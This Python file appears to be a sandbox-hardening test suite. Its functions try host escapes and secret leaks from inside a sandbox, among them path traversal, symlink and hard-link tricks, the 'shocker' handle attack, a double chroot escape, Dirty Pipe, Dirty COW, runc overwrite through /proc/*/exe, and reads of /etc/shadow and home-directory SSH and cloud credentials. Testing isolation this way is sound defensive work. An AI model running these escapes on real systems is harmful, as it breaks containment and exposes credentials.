"""A: files and devices of the host."""

# pylint: disable=wildcard-import,unused-wildcard-import,function-redefined
import os
import subprocess

import host_watch
from inside import *
from judge import either, host, leaks, of_host_files, succeeded, value
from model import add, attack

FILES = "files"


@attack(
    "A02", "HostLeak", "read a host secret by ../ from the working directory", "ENOENT", leaks("secret"), group=FILES
)
def _():
    return [read("../" * depth + P["secret"][1:]) for depth in range(1, 20)] + [read(P["secret"])]


@attack(
    "A03", "HostLeak", "symlink in the workspace to a host secret", "dangling: ENOENT", leaks("secret"), group=FILES
)
def _():
    os.symlink(P["secret"], "link-a03")
    os.symlink(os.path.dirname(P["secret"]), "directory-a03")
    return read("link-a03") + read("directory-a03/secret.txt")


@attack(
    "A04", "HostLeak", "hard link of a host secret into the workspace", "ENOENT/EXDEV", leaks("secret"), group=FILES
)
def _():
    os.link(P["secret"], "link-a04")
    return read("link-a04")


@attack(
    "A07",
    "HostLeak",
    "inherited descriptors, and openat from them (CVE-2024-21626 class)",
    "no descriptor above 2 is inherited",
    leaks("secret", "fd"),
)
def _():
    got = []
    for descriptor in range(3, 1024):
        try:
            os.fstat(descriptor)
        except OSError:
            continue
        for path in ("secret.txt", "../outside/secret.txt", P["secret"][1:], "../../.." + P["secret"]):
            try:
                inner = os.open(path, os.O_RDONLY, dir_fd=descriptor)
                got.append(os.read(inner, 100).decode())
            except OSError:
                pass
        try:
            got.append(os.pread(descriptor, 100, 0).decode("utf-8", "replace"))
        except OSError:
            pass
    return got


@attack(
    "A08",
    "HostLeak",
    "open_by_handle_at of the root inode (shocker)",
    "EPERM",
    leaks("secret"),
    group=FILES,
    control="may",
    control_needs_root=True,
)
def _():
    got = []
    for start in filter(os.path.exists, ("/usr", "/etc/hosts", "/", ".", "/bin")):
        mount = os.open(start, os.O_RDONLY)
        for inode, kind in ((2, 1), (2, 0x81), (128, 0x81), (256, 0x4D)):
            handle = ctypes.create_string_buffer(struct.pack("IiII", 8, kind, inode, 0))
            root = call("open_by_handle_at", mount, handle, os.O_RDONLY)
            got.append(word(root))
            if root >= 0:
                try:
                    got.append(os.read(os.open(P["secret"][1:], os.O_RDONLY, dir_fd=root), 100).decode())
                except OSError as error:
                    got.append(str(error))
    return got


@attack("A09", "Lateral", "read another session's workspace", "ENOENT", leaks("peer"), group="peer", peer=True)
def _():
    got = [read(path) for path in P["peer_files"]]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for place in ("cwd", "root/workspace", "root/tmp"):
            got.append(read("/proc/%s/%s/peer.txt" % (pid, place)))
    return got


def planted_program(evidence):
    found = [path for path in evidence.value or [] if os.path.exists(path)]
    for path in found:
        os.unlink(path)
    return found, ", ".join(found) or str(evidence.refused or "nothing planted")


@attack(
    "A12",
    "Escape",
    "plant a program in /usr/local/bin and its like",
    "EROFS",
    host(planted_program),
    group=FILES,
    control_needs_root=True,
)
def _():
    made = []
    for place in ("/usr/local/bin", "/usr/bin", "/usr/lib/python3/dist-packages", "/usr/local/lib"):
        path = "%s/skerry-attack-%s" % (place, P["nonce"])
        if attempt(path, lambda: write(path, "planted\n", 0o755))[1] == "OK":
            made.append(path)
    return made


def disk_identity(evidence):
    """The file system's id lies at a fixed place of the disk; the host reads it with blkid."""
    got = [one for one in evidence.value or [] if len(one) == 32]
    source = subprocess.run(["findmnt", "-no", "UUID", "/"], capture_output=True, text=True, check=False).stdout.strip()
    identity = source.replace("-", "")
    if not identity:
        return bool(got), f"read {len(got)} blocks of a device"
    return identity in got, "the disk's id was read" if identity in got else str(evidence.value)


@attack(
    "A18",
    "HostLeak",
    "mknod the block device of the root disk and read it",
    "EPERM",
    host(disk_identity),
    group=FILES,
    control="may",
    control_needs_root=True,
)
def _():
    got = []
    major, minor = P["root_device"]
    for place in (".", "/tmp", "/dev", "/dev/shm"):
        path = "%s/disk-%s" % (place, P["nonce"])
        try:
            os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(major, minor))
            handle = os.open(path, os.O_RDONLY)
            got.append(os.pread(handle, 16, 1024 + 0x68).hex())
        except OSError as error:
            got.append(name_of(error.errno))
        attempt(path, lambda: os.unlink(path))
    return got


DEVICES = [
    "/dev/" + name
    for name in (
        "mem kmem port kmsg kvm vda vda1 sda sda1 nvme0n1 xvda fuse loop-control loop0 net/tun mapper/control "
        "vhost-net vhost-vsock "
        "vsock snd/seq snd/timer dri/card0 dri/renderD128 nvidia0 nvidiactl userfaultfd uinput input/event0 input/mice "
        "hpet rtc rtc0 ppp autofs btrfs-control cuse hwrng nvram snapshot udmabuf dma_heap/system vfio/vfio tpm0 "
        "tpmrm0 bus/usb/001/001 sg0 sr0 mtd0 zram0 console tty0 tty1 vcs vcsa ttyS0 hvc0 cpu/0/msr cpu_dma_latency"
    ).split()
]


add(
    "A19",
    "HostLeak",
    "open /dev/{mem,kmsg,kvm,vda,fuse,loop-control,net/tun,…}",
    "ENOENT",
    succeeded(),
    f"return opened({DEVICES!r}, os.O_RDONLY | os.O_NOCTTY)",
    group=FILES,
    control_needs_root=True,
)
add(
    "A51",
    "HostLeak",
    "watchdog and raw disks by any other name in /dev",
    "ENOENT",
    value(lambda names: names, lambda names: "in /dev: " + ", ".join(names)),
    "return [name for name in os.listdir('/dev') if stat.S_ISBLK(os.lstat('/dev/' + name).st_mode) or "
    "name.startswith(('watchdog', 'loop', 'ram', 'dm-', 'sd', 'vd', 'nvme'))]",
    group=FILES,
)


def has_capability(evidence):
    if evidence.value != [["setcap", "OK"]]:
        return False, str(evidence.value or evidence.refused)
    return True, "security.capability was set on a file"


@attack(
    "A21",
    "InternalEsc",
    "file capabilities by setxattr(security.capability)",
    "EPERM",
    host(has_capability),
    group=FILES,
    control_needs_root=True,
)
def _():
    write("capable", "x", 0o755)
    everything = struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0x1FF, 0)
    return [attempt("setcap", lambda: os.setxattr("capable", "security.capability", everything))]


def hosts_shadow(evidence):
    try:
        with open("/etc/shadow", encoding="utf-8") as file:
            text = file.read()
    except OSError:
        return None, "the caller cannot read it either"
    return bool(text) and text == evidence.value, "the host's /etc/shadow" if text == evidence.value else "not readable"


add(
    "A22",
    "HostLeak",
    "/etc/shadow of the host",
    "ENOENT/EACCES",
    host(hosts_shadow),
    "return read('/etc/shadow', 1 << 20)",
    group=FILES,
    control_needs_root=True,
)


@attack(
    "A23",
    "HostLeak",
    "credentials in the caller's home (~/.ssh ~/.aws ~/.netrc ~/.npmrc ~/.docker)",
    "home hidden",
    leaks("home"),
    group=FILES,
)
def _():
    homes = {P["home"], os.environ.get("HOME", "/"), os.path.expanduser("~"), "/root", "/proc/self/root" + P["home"]}
    homes.update("/home/" + name for name in names_in("/home"))
    return [read(os.path.join(home, name)) for home in homes for name in P["home_secrets"]]


@attack("A24", "Escape", "double chroot escape", "EPERM", leaks("secret"), group=FILES, control_needs_root=True)
def _():
    os.makedirs("jail", exist_ok=True)
    outer = os.open("/", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(outer)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(P["secret"])


@attack(
    "A52",
    "HostLeak",
    "magic links: /proc/*/root, cwd, fd/N and what lies beyond",
    "ENOENT/EACCES",
    leaks("secret"),
    group=FILES,
)
def _():
    got, secret = [], P["secret"]
    for pid in list(filter(str.isdigit, os.listdir("/proc"))) + ["self", "thread-self", "1", str(os.getppid())]:
        for link in ("root", "cwd/../../../../../..", "root/../.."):
            got.append(read("/proc/%s/%s%s" % (pid, link, secret)))
        for number in range(64):
            got.append(read("/proc/%s/fd/%d%s" % (pid, number, secret)))
            got.append(read("/proc/%s/fd/%d/secret.txt" % (pid, number)))
    return "".join(got)


SYSTEM_FILES = ["/usr/bin/env", "/usr/bin/python3", "/usr/lib/os-release", "/usr/bin/true"]


def system_digests(_evidence):
    return {path: host_watch.digest(path) for path in SYSTEM_FILES}


def system_changed(evidence):
    changed = [path for path in SYSTEM_FILES if host_watch.digest(path)[:3] != evidence.before[path][:3]]
    return bool(changed), (
        "changed on the host: " + ", ".join(changed) if changed else str(evidence.value or evidence.refused)
    )


add(
    "A53",
    "Escape",
    "open programs of /usr for writing",
    "EROFS",
    of_host_files(succeeded()),
    f"return opened({SYSTEM_FILES!r}, os.O_WRONLY)",
    group=FILES,
    control_needs_root=True,
)


@attack(
    "A54",
    "Escape",
    "Dirty Pipe: splice a read-only file, then write into the pipe (CVE-2022-0847)",
    "the file is unchanged",
    host(system_changed),
    before=system_digests,
    control="fixed in this kernel",
)
def _():
    got = []
    for path in ("/usr/lib/os-release", "/usr/bin/env"):
        receiver, sender = os.pipe()
        size = fcntl.fcntl(sender, 1032)  # F_GETPIPE_SZ
        os.write(sender, b"x" * size)
        os.read(receiver, size)
        source = os.open(path, os.O_RDONLY)
        offset = ctypes.c_longlong(0)
        got.append(word(call("splice", source, ctypes.byref(offset), sender, None, 1, 0)))
        os.write(sender, b"skerry")
    return got


@attack(
    "A55",
    "Escape",
    "Dirty COW: write a read-only mapping of /usr through /proc/self/mem",
    "the file is unchanged",
    host(system_changed),
    before=system_digests,
    control="fixed in this kernel",
)
def _():
    got = []
    source = os.open("/usr/lib/os-release", os.O_RDONLY)
    libc.mmap.restype = ctypes.c_void_p
    for flags in (1, 2):  # MAP_SHARED, MAP_PRIVATE
        area = libc.mmap(None, 4096, 1, flags, source, 0)
        for _ in range(200):
            libc.madvise(ctypes.c_void_p(area), 4096, 4)  # MADV_DONTNEED
            memory = os.open("/proc/self/mem", os.O_RDWR)
            got.append(attempt("write", lambda: os.pwrite(memory, b"skerry", area))[1])
            os.close(memory)
    return sorted(set(got))


@attack(
    "A56",
    "Escape",
    "change metadata of /usr: times, mode, owner, attributes, size",
    "EROFS",
    of_host_files(succeeded()),
    group=FILES,
    control_needs_root=True,
)
def _():
    path, entry = "/usr/lib/os-release", os.stat("/usr/lib/os-release")
    handle = os.open(path, os.O_RDONLY)
    return [
        attempt("utime", lambda: os.utime(path, ns=(entry.st_atime_ns, entry.st_mtime_ns))),
        attempt("fchmod", lambda: os.fchmod(handle, entry.st_mode & 0o777)),
        attempt("fchown", lambda: os.fchown(handle, entry.st_uid, entry.st_gid)),
        attempt("setxattr", lambda: os.setxattr(path, "user.skerry", b"x") or os.removexattr(path, "user.skerry")),
        attempt("rename", lambda: os.rename(path, path)),
        attempt("truncate", lambda: os.truncate(path, entry.st_size)),
    ]


def init_digests(evidence):
    directory = os.path.join(evidence.stage.base, "bin")
    paths = [os.path.join(directory, name) for name in os.listdir(directory)] if os.path.isdir(directory) else []
    return {
        path: host_watch.digest(path)
        for path in [*paths, "/usr/bin/python3", "/usr/bin/bwrap", "/usr/bin/runc", "/usr/sbin/runc"]
    }


def runtime_changed(evidence):
    changed = [path for path, digest in evidence.before.items() if host_watch.digest(path) != digest]
    return bool(changed), "changed: " + ", ".join(changed) if changed else str(evidence.value or evidence.refused)


@attack(
    "A57",
    "Escape",
    "overwrite the runtime through /proc/*/exe (CVE-2019-5736 class)",
    "unchanged, EACCES/ETXTBSY/EROFS",
    either(host(runtime_changed), succeeded()),
    before=init_digests,
    control="a program that runs is busy: ETXTBSY",
)
def _():
    got = []
    for pid in list(filter(str.isdigit, os.listdir("/proc"))) + ["self"]:
        path = "/proc/%s/exe" % pid
        got += opened([path], os.O_WRONLY) + opened([path], os.O_RDWR)
        handle = call(257 if X86 else 56, -100, path.encode(), os.O_PATH)
        if handle >= 0:
            got += opened(["/proc/self/fd/%d" % handle], os.O_WRONLY)
    return got


@attack(
    "A58",
    "Escape",
    "hard link of a set-user-id program out of /usr into the workspace",
    "EXDEV/EPERM",
    of_host_files(succeeded()),
    group=FILES,
    control="may",
    control_needs_root=True,
)
def _():
    got = []
    for path in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/usr/bin/env"):
        got.append(attempt(path, lambda: os.link(path, "linked-" + os.path.basename(path))))
        handle = os.open("/usr/bin/env", os.O_RDONLY)
        got.append(
            attempt(
                "by descriptor", lambda: os.link("/proc/self/fd/%d" % handle, "by-descriptor", follow_symlinks=True)
            )
        )
        for name in ("linked-" + os.path.basename(path), "by-descriptor"):
            attempt(name, lambda: os.unlink(name))
    return got


add(
    "A59",
    "Lateral",
    "list the sessions of the host: home, runtime and temporary directories",
    "ENOENT",
    value(lambda names: names, lambda names: "seen: " + ", ".join(names)),
    "return [name for place in ('/tmp', P['home'], '/run', '/var/tmp', '/var/lib', '/root', '/home') "
    "for name in names_in(place) if name in ('.skerry', os.path.basename(os.path.dirname(P['home'])))]",
    group=FILES,
)
add(
    "A60",
    "Escape",
    "leave a lease on a host file that stops the host",
    "EACCES/EAGAIN",
    of_host_files(succeeded()),
    "handle = os.open('/usr/lib/os-release', os.O_RDONLY); "
    "return [attempt('lease', lambda: fcntl.fcntl(handle, 1024, fcntl.F_RDLCK))]",
    group=FILES,
    control_needs_root=True,
)
